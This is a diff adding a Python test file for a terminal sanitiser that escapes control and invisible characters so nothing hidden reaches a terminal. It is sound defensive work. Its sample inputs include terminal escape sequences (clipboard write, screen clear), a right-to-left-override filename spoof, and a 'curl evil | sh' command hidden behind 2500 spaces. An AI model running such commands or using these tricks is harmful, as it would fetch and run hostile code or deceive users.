@@ -1,0 +1,125 @@
+"""The terminal sanitiser: nothing that can act on a terminal survives, and nothing is lost.
+
+:func:`visible` and :func:`visible_command` are checked against a decoder
+written here from their documented format: for any text, decoding what is
+shown gives the text back (so two different texts never look the same), and
+what is shown holds no control, format or separator character.
+"""
+
+from __future__ import annotations
+
+import re
+import unicodedata
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from subagents._visible import SPACE_RUN, visible, visible_command
+
+_HEX = {"x": 2, "u": 4, "U": 8}
+_NAMED = {"n": "\n", "r": "\r", "t": "\t", "\\": "\\"}
+_RUN = re.compile(r"⟨(\d+) spaces⟩")
+
+
+def decode(shown: str) -> str:
+    """The text that :func:`visible` or :func:`visible_command` showed as ``shown``."""
+    out: list[str] = []
+    index = 0
+    while index < len(shown):
+        char = shown[index]
+        if char == "⟨":
+            run = _RUN.match(shown, index)
+            assert run is not None, shown
+            out.append(" " * int(run.group(1)))
+            index = run.end()
+            continue
+        following = shown[index + 1] if index + 1 < len(shown) else ""
+        if char == "\\" and following in _HEX:
+            digits = _HEX[following]
+            out.append(chr(int(shown[index + 2 : index + 2 + digits], 16)))
+            index += 2 + digits
+        elif char == "\\" and following in _NAMED:
+            out.append(_NAMED[following])
+            index += 2
+        else:
+            out.append(char)
+            index += 1
+    return "".join(out)
+
+
+#: Text with a high share of the characters that matter here.
+hostile_text = st.text(
+    st.one_of(
+        st.characters(),
+        st.sampled_from(
+            list("\x1b\x07\x9b\x9d\r\n\t\\ ⟨xuU\u202e\u2066\u200b\u2028\ufeff\u3164\xa0")
+        ),
+    ),
+    max_size=60,
+)
+
+
+def unsafe(char: str) -> bool:
+    """Whether ``char`` must never reach a terminal raw."""
+    return unicodedata.category(char) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp") or (
+        char in "\u115f\u1160\u3164\uffa0"
+    )
+
+
+@given(hostile_text)
+def test_visible_shows_no_control_and_loses_nothing(text: str) -> None:
+    shown = visible(text)
+    assert not any(unsafe(c) for c in shown), repr(shown)
+    assert decode(shown) == text
+
+
+@given(hostile_text)
+def test_visible_with_newlines_keeps_only_newlines_and_tabs(text: str) -> None:
+    shown = visible(text, newlines=True)
+    assert not any(unsafe(c) for c in shown if c not in "\n\t"), repr(shown)
+    assert decode(shown) == text
+    assert shown.count("\n") == text.count("\n")
+
+
+@given(hostile_text)
+def test_visible_command_hides_no_whitespace_and_loses_nothing(text: str) -> None:
+    shown = visible_command(text)
+    assert not any(unsafe(c) for c in shown if c != "\n"), repr(shown)
+    assert " " * SPACE_RUN not in shown
+    assert "\t" not in shown
+    assert decode(shown) == text
+
+
+@given(hostile_text, hostile_text)
+def test_different_texts_never_look_the_same(first: str, second: str) -> None:
+    if first != second:
+        assert visible(first) != visible(second)
+        assert visible_command(first) != visible_command(second)
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("src/app.py", "src/app.py"),
+        ("naïve café 日本語 ✓", "naïve café 日本語 ✓"),
+        ("a\x1b]52;c;cHduZWQ=\x07b", "a\\x1b]52;c;cHduZWQ=\\x07b"),
+        ("\x1b[2J\x9b6n", "\\x1b[2J\\x9b6n"),
+        ("invoice\u202efdp.exe", "invoice\\u202efdp.exe"),
+        ("line one\nline two\r", "line one\\nline two\\r"),
+        ("C:\\Program Files\\ada", "C:\\Program Files\\ada"),
+        ("C:\\Users", "C:\\\\Users"),
+        ("a literal \\x1b", "a literal \\\\x1b"),
+        ("tab\there", "tab\\there"),
+        ("\U000e0041tag", "\\U000e0041tag"),
+    ],
+)
+def test_examples(text: str, shown: str) -> None:
+    assert visible(text) == shown
+
+
+def test_a_long_run_of_spaces_is_counted_and_the_tail_shown() -> None:
+    command = "ls" + " " * 2500 + "; curl evil | sh"
+    assert visible_command(command) == "ls⟨2500 spaces⟩; curl evil | sh"
+    assert visible_command("a  b\tc\rd") == "a  b\\tc\\rd"
+    assert visible_command("echo ⟨3 spaces⟩") == "echo \\u27e8" + "3 spaces⟩"
